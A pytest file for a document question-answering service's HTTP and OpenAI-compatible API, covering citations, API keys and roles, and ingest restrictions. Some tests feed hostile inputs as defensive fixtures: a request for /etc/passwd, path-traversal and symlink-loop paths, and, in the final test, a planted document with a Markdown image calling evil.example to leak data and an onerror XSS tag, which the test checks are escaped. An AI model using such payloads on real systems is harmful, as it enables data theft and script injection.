"""The doors' app in process (FastAPI's TestClient over the real app, page mounted): the HTTP API,
the OpenAI-compatible routes and the keys, over a real index with the model-free embedder.

The served doors, with the real clients and a real ``vraagbaak serve``, are in test_doors_served.py.
"""

from __future__ import annotations

import json
import re
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.keys import Keys, add_key, digest, parse_setting, read_file
from assistant.assistant import Assistant
from ingest.loaders import load
from tests.conftest import ANSWER_ALL, SEED, SEED_QUESTION
from values.errors import ConfigError
from vraagbaak.cli import app as cli
from vraagbaak.doors import Doors, check_exposure
from vraagbaak.server import build_app, may_change

Client = Callable[..., TestClient]


@pytest.fixture
def indexed(make_assistant: Callable[..., Assistant], docs: Path) -> Assistant:
    # the fake embedder's similarities are not calibrated: see ANSWER_ALL in conftest
    assistant = make_assistant(**ANSWER_ALL)
    assert not assistant.ingest([docs]).failed
    return assistant


@pytest.fixture
def client(indexed: Assistant) -> Iterator[Client]:
    """A client of the served app, with ``doors`` (default: open, no keys)."""
    opened: list[TestClient] = []

    def make(doors: Doors | None = None, **headers: str) -> TestClient:
        c = TestClient(build_app(indexed, doors or Doors()), headers=headers)
        c.__enter__()  # runs the lifespan: the MCP session manager and the page's queue
        opened.append(c)
        return c

    yield make
    for c in opened:
        c.__exit__(None, None, None)


def exact(citation: dict[str, Any]) -> None:
    """The citation's offsets slice the loaded document to its text."""
    text = load(Path(citation["source"])).text
    assert text[citation["start"]:citation["end"]] == citation["text"]
    for quote in citation["quotes"]:
        assert citation["start"] <= quote["start"] < quote["end"] <= citation["end"]


def test_ask_answers_with_citations_whose_offsets_resolve(client: Client) -> None:
    body = client().post("/api/v1/ask", json={"question": SEED_QUESTION}).json()
    assert body["answered"] and "75.000 euro" in body["answer"]
    assert body["citations"] and all(c["verified"] for c in body["citations"])
    assert body["citations"][0]["source"].endswith(SEED.name)
    for citation in body["citations"]:
        exact(citation)
    assert set(body) >= {"question", "retrieved", "query", "index_version", "scope", "reason", "evidence"}


def test_the_document_text_is_what_the_citations_slice(client: Client) -> None:
    c = client()
    cited = c.post("/api/v1/ask", json={"question": SEED_QUESTION}).json()["citations"][0]
    opened = c.get("/api/v1/documents/text", params={"source": cited["source"]}).json()
    assert opened["text"][cited["start"]:cited["end"]] == cited["text"]
    assert any(p["start"] == cited["start"] and p["end"] == cited["end"] for p in opened["passages"])
    missing = c.get("/api/v1/documents/text", params={"source": "/etc/passwd"})
    assert missing.status_code == 404 and "/etc/passwd" in missing.json()["detail"]


def test_search_and_documents_list_what_is_indexed(client: Client, docs: Path) -> None:
    c = client()
    found = c.post("/api/v1/search", json={"query": SEED_QUESTION, "k": 3}).json()
    assert len(found["retrieved"]) == 3 and found["retrieved"][0]["source"].endswith(SEED.name)
    listed = c.get("/api/v1/documents", params={"limit": 2}).json()
    assert listed["total"] == len(list(docs.iterdir())) and len(listed["documents"]) == 2
    only = c.get("/api/v1/documents", params={"type": "txt", "folder": str(docs.resolve())}).json()
    assert only["total"] == listed["total"]
    assert c.get("/api/v1/documents", params={"type": "exe"}).status_code == 400
    unknown = c.get("/api/v1/documents", params={"colour": "blue"})
    assert unknown.status_code == 422 and "colour" in unknown.text
    assert c.get("/api/v1/status").json()["documents"] == listed["total"]


def test_a_scope_restricts_and_a_bad_one_says_why(client: Client, docs: Path) -> None:
    c = client()
    other = sorted(p for p in docs.iterdir() if p.name != SEED.name)[0].resolve()
    scoped = c.post("/api/v1/ask", json={"question": SEED_QUESTION, "scope": {"paths": [str(other)]}}).json()
    assert {h["source"] for h in scoped["retrieved"]} == {str(other)}
    assert scoped["scope"]["paths"] == [str(other)]
    bad = c.post("/api/v1/ask", json={"question": SEED_QUESTION, "scope": {"types": ["exe"]}})
    assert bad.status_code == 400 and "'exe'" in bad.json()["detail"]
    nowhere = c.post("/api/v1/ask", json={"question": SEED_QUESTION, "scope": {"paths": ["/nowhere"]}})
    assert nowhere.status_code == 400 and "scope" in nowhere.json()["detail"]


@pytest.mark.parametrize(("body", "field"), [
    ({}, "question"),
    ({"question": SEED_QUESTION, "k": 0}, "k"),
    ({"question": SEED_QUESTION, "k": "five"}, "k"),
    ({"question": SEED_QUESTION, "colour": "blue"}, "colour"),
    ({"question": SEED_QUESTION, "history": [{"question": "x"}]}, "answer"),
])
def test_a_bad_body_is_a_4xx_naming_the_field(client: Client, body: dict[str, Any], field: str) -> None:
    response = client().post("/api/v1/ask", json=body)
    assert response.status_code == 422
    assert any(field in map(str, error["loc"]) for error in response.json()["detail"])


def test_an_empty_or_overlong_question_is_refused_saying_why(client: Client) -> None:
    c = client()
    blank = c.post("/api/v1/ask", json={"question": "  "})
    assert blank.status_code == 422 and blank.json()["detail"][0]["loc"] == ["body", "question"]
    long = c.post("/api/v1/ask", json={"question": "woord " * 2000})
    assert long.status_code == 400 and "limit" in long.json()["detail"]


def test_the_stream_sends_drafts_then_one_checked_answer(client: Client) -> None:
    with client().stream("POST", "/api/v1/ask/stream", json={"question": SEED_QUESTION}) as response:
        assert response.headers["content-type"].startswith("text/event-stream")
        events = [line.removeprefix("event: ") for line in response.iter_lines() if line.startswith("event: ")]
        response.close()
    assert events[-1] == "answer" and set(events[:-1]) == {"draft"} and events.count("answer") == 1


def test_openai_completion_carries_text_markers_a_source_list_and_the_citations(client: Client) -> None:
    body = client().post("/v1/chat/completions", json={
        "model": "vraagbaak", "messages": [{"role": "system", "content": "Be brief."},
                                           {"role": "user", "content": SEED_QUESTION}]}).json()
    content = body["choices"][0]["message"]["content"]
    assert "75.000 euro" in content and "[1]" in content
    assert "Bronnen:" in content and SEED.name in content.split("Bronnen:")[1]
    assert body["citations"] and body["vraagbaak"]["answered"] is True
    for citation in body["citations"]:
        exact(citation)


def test_openai_follow_up_reads_the_history_without_the_source_list(client: Client, indexed: Assistant) -> None:
    c = client()
    first = c.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": SEED_QUESTION}]}).json()
    reply = first["choices"][0]["message"]["content"]
    follow = c.post("/v1/chat/completions", json={"messages": [
        {"role": "user", "content": SEED_QUESTION}, {"role": "assistant", "content": reply},
        {"role": "user", "content": [{"type": "text", "text": "En wie volgt de workshop gratis?"}]}]}).json()
    assert follow["vraagbaak"]["question"] == "En wie volgt de workshop gratis?"
    assert "Bronnen" not in follow["vraagbaak"]["query"]  # the appended list is not part of the turn


@pytest.mark.parametrize(("body", "status", "param"), [
    ({"model": "vraagbaak"}, 400, "messages"),
    ({"model": "gpt-4o", "messages": [{"role": "user", "content": "x"}]}, 404, "model"),
    ({"messages": [{"role": "assistant", "content": "x"}]}, 400, None),
    ({"messages": [{"role": "user", "content": SEED_QUESTION}], "k": 99}, 400, "k"),
])
def test_openai_errors_have_openais_shape(client: Client, body: dict[str, Any], status: int,
                                          param: str | None) -> None:
    response = client().post("/v1/chat/completions", json=body)
    assert response.status_code == status
    error = response.json()["error"]
    assert error["message"] and error["param"] == param


def test_the_openai_stream_ends_with_the_citations_and_done(client: Client) -> None:
    with client().stream("POST", "/v1/chat/completions", json={
            "stream": True, "messages": [{"role": "user", "content": SEED_QUESTION}]}) as response:
        data = [line.removeprefix("data: ") for line in response.iter_lines() if line.startswith("data: ")]
    assert data[-1] == "[DONE]"
    chunks = [json.loads(d) for d in data[:-1]]
    assert chunks[0]["choices"][0]["delta"]["role"] == "assistant"
    assert "75.000 euro" in "".join(c["choices"][0]["delta"].get("content", "") for c in chunks)
    assert chunks[-1]["choices"][0]["finish_reason"] == "stop" and chunks[-1]["citations"]
    assert all("citations" not in c for c in chunks[:-1])


def test_a_stream_with_a_scope_that_matches_nothing_is_a_400_before_it_starts(client: Client) -> None:
    response = client().post("/v1/chat/completions", json={
        "stream": True, "scope": {"paths": ["/nowhere"]}, "messages": [{"role": "user", "content": SEED_QUESTION}]})
    assert response.status_code == 400 and "scope" in response.json()["error"]["message"]


def test_a_list_setting_not_in_json_is_a_usage_error_not_a_traceback() -> None:
    result = CliRunner().invoke(cli, ["keys", "list"], env={"VRAAGBAAK_API_KEYS": "ci:read:abc"})
    assert result.exit_code == 2 and "invalid settings" in result.output and "JSON" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_models_lists_vraagbaak(client: Client) -> None:
    assert [m["id"] for m in client().get("/v1/models").json()["data"]] == ["vraagbaak"]


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, str]:
    path = tmp_path / "keys.json"
    return {"path": str(path), "read": add_key(path, "reader", "read"), "admin": add_key(path, "ops", "admin")}


def test_keys_decide_who_may_do_what(client: Client, keys: dict[str, str], docs: Path) -> None:
    doors = Doors(keys=Keys.load(Path(keys["path"])))
    anonymous, reader, admin = (client(doors), client(doors, authorization=f"Bearer {keys['read']}"),
                                client(doors, authorization=f"Bearer {keys['admin']}"))
    ingest = {"paths": [str(docs)]}
    denied = anonymous.post("/api/v1/ask", json={"question": SEED_QUESTION})
    assert denied.status_code == 401 and denied.headers["www-authenticate"] == "Bearer"
    assert anonymous.get("/v1/models").status_code == 401
    assert anonymous.post("/mcp", json={}).status_code == 401
    assert client(doors, authorization="Bearer vbk_wrong").get("/api/v1/status").status_code == 401
    assert client(doors, authorization=keys["read"]).get("/api/v1/status").status_code == 401  # no scheme
    assert reader.post("/api/v1/ask", json={"question": SEED_QUESTION}).json()["answered"]
    forbidden = reader.post("/api/v1/ingest", json=ingest)
    assert forbidden.status_code == 403 and "admin" in forbidden.json()["detail"]
    assert reader.post("/api/v1/remove", json={"source": str(docs / SEED.name)}).status_code == 403
    assert admin.post("/api/v1/ingest", json=ingest).json()["unchanged"] == len(list(docs.iterdir()))
    assert anonymous.get("/api/v1/health").json()["ready"] is True  # a load balancer needs no key
    for response in (denied, forbidden):
        assert keys["read"] not in response.text and keys["admin"] not in response.text


def test_ingest_reads_only_indexed_folders_and_allowed_roots(client: Client, tmp_path: Path, docs: Path) -> None:
    secret = tmp_path / "elsewhere"
    secret.mkdir()
    (secret / "secret.txt").write_text("Het wachtwoord is zwaardvis.", encoding="utf-8")
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    c = client()
    for path in (secret, docs / ".." / "elsewhere", Path("/etc"), loop):
        refused = c.post("/api/v1/ingest", json={"paths": [str(path)]})
        assert refused.status_code == 400 and str(path) in refused.json()["detail"]
    (docs / "new.txt").write_text("De kabelbaan kost 12 miljoen euro.", encoding="utf-8")
    assert c.post("/api/v1/ingest", json={"paths": [str(docs / "new.txt")]}).json()["added"] == 1
    allowed = client(Doors(ingest_roots=(secret,)))
    assert allowed.post("/api/v1/ingest", json={"paths": [str(secret)]}).json()["added"] == 1


def test_remove_drops_a_document_and_names_an_unknown_one(client: Client, indexed: Assistant, docs: Path) -> None:
    c = client()
    source = str((docs / SEED.name).resolve())
    passages = indexed.documents()[source].passages
    assert passages > 1
    assert c.post("/api/v1/remove", json={"source": source}).json()["removed_passages"] == passages
    assert source not in indexed.documents()
    gone = c.post("/api/v1/remove", json={"source": source})
    assert gone.status_code == 404 and source in gone.json()["detail"]


def test_exposing_the_index_to_a_network_needs_keys_and_sign_in(keys: dict[str, str]) -> None:
    with_keys = Keys.load(Path(keys["path"]))
    check_exposure("127.0.0.1", Doors())
    check_exposure("::1", Doors())
    with pytest.raises(ConfigError, match="without API keys.*vraagbaak keys add"):
        check_exposure("0.0.0.0", Doors())
    with pytest.raises(ConfigError, match="sign-in"):
        check_exposure("192.168.1.5", Doors(keys=with_keys, page_login=False))
    check_exposure("0.0.0.0", Doors(keys=with_keys))
    check_exposure("0.0.0.0", Doors(trusted_network=True))


def test_mcp_accepts_the_names_a_network_server_is_reached_under() -> None:
    import socket

    assert Doors().hosts("127.0.0.1", 7860) == []  # loopback names only (the MCP app's own)
    served = Doors(allowed_hosts=("vraagbaak.example.org",)).hosts("10.0.0.5", 7860)
    assert {"vraagbaak.example.org", "vraagbaak.example.org:7860", "10.0.0.5:7860",
            f"{socket.gethostname()}:7860"} <= set(served)
    assert "0.0.0.0:7860" not in Doors().hosts("0.0.0.0", 7860)


def test_keys_are_stored_hashed_readable_by_the_owner_only(keys: dict[str, str]) -> None:
    path = Path(keys["path"])
    stored = path.read_text(encoding="utf-8")
    assert keys["read"] not in stored and digest(keys["read"]) in stored
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [(k.name, k.role) for k in read_file(path)] == [("reader", "read"), ("ops", "admin")]
    assert Keys.load(path).login("reader", keys["read"]) is not None
    assert Keys.load(path).login("ops", keys["read"]) is None  # a key signs in under its own name only


def test_a_bad_key_setting_names_the_entry() -> None:
    with pytest.raises(ConfigError, match="'ci'"):
        parse_setting("ci:root:" + "0" * 64)
    key = parse_setting("ci:read:" + "A" * 64)
    assert key.role == "read" and key.sha256 == "a" * 64


def test_the_keys_commands_add_list_and_remove(tmp_path: Path) -> None:
    runner = CliRunner()
    added = runner.invoke(cli, ["keys", "add", "laptop", "--role", "admin", "--data-dir", str(tmp_path)])
    assert added.exit_code == 0, added.output
    token = added.stdout.strip()
    assert token.startswith("vbk_") and Keys.load(tmp_path / "keys.json").find(token) is not None
    listed = runner.invoke(cli, ["keys", "list", "--json", "--data-dir", str(tmp_path)])
    assert [k["name"] for k in json.loads(listed.stdout)] == ["laptop"] and token not in listed.stdout
    again = runner.invoke(cli, ["keys", "add", "laptop", "--data-dir", str(tmp_path)])
    assert again.exit_code == 1 and "exists" in again.output
    assert runner.invoke(cli, ["keys", "remove", "laptop", "--data-dir", str(tmp_path)]).exit_code == 0
    assert Keys.load(tmp_path / "keys.json").find(token) is None
    assert runner.invoke(cli, ["keys", "remove", "laptop", "--data-dir", str(tmp_path)]).exit_code == 1


def test_the_openapi_schema_documents_every_door(client: Client) -> None:
    schema = client().get("/api/v1/openapi.json").json()
    paths = set(schema["paths"])
    assert {"/api/v1/ask", "/api/v1/ask/stream", "/api/v1/search", "/api/v1/documents", "/api/v1/documents/text",
            "/api/v1/ingest", "/api/v1/sync", "/api/v1/remove", "/api/v1/status", "/api/v1/health",
            "/v1/models", "/v1/chat/completions"} <= paths
    assert "HTTPBearer" in schema["components"]["securitySchemes"]
    answer = schema["components"]["schemas"]["AnswerOut"]["properties"]
    assert {"citations", "retrieved", "answered", "verified", "index_version"} <= set(answer)


def test_on_the_page_only_an_admin_key_may_change_the_index(keys: dict[str, str], indexed: Assistant,
                                                           tmp_path: Path) -> None:
    import types

    import gradio as gr

    from tests.conftest import SEED
    from ui.documents import Library
    from ui.state import Prefs

    doors = Doors(keys=Keys.load(Path(keys["path"])))
    assert may_change(doors, "ops") and not may_change(doors, "reader") and not may_change(doors, None)
    assert may_change(Doors(), None)  # no sign-in: the page works as before
    library = Library(indexed, tmp_path / "uploads", lambda user: may_change(doors, user))
    before = indexed.document_count()
    reader = types.SimpleNamespace(username="reader")
    with pytest.raises(gr.Error, match="admin"):
        library.upload([str(SEED)], Prefs(language="en"), reader)  # type: ignore[arg-type]
    with pytest.raises(gr.Error, match="admin"):
        library.sync(Prefs(language="en"), reader)  # type: ignore[arg-type]
    assert indexed.document_count() == before and not (tmp_path / "uploads").exists()


def test_the_openai_text_cannot_make_a_chat_client_fetch_or_run_anything(
        make_assistant: Callable[..., Assistant], tmp_path: Path) -> None:
    # a chat client renders the content as Markdown: an image in a document would be fetched by
    # every client that shows the answer (a leak), raw HTML might run
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "bomen.txt").write_text(
        "Groen in de stad\n\nDe gemeente plant 40 bomen ![pixel](http://evil.example/p.png?leak=1) in het "
        "stadspark <img src=x onerror=alert(1)> dit voorjaar.\n", encoding="utf-8")
    assistant = make_assistant(**ANSWER_ALL)
    assert not assistant.ingest([folder]).failed
    with TestClient(build_app(assistant, Doors())) as c:
        body = c.post("/v1/chat/completions", json={"messages": [
            {"role": "user", "content": "Hoeveel bomen plant de gemeente in het stadspark?"}]}).json()
    content = body["choices"][0]["message"]["content"]
    assert "40 bomen" in content and "leak=1" in content  # the sentence is quoted, made inert
    assert not re.search(r"(?<!\\)(!\[|<)", content), content  # each one escaped, as CommonMark reads it
    assert "![pixel]" in body["vraagbaak"]["answer"]  # the JSON keeps the document's exact words
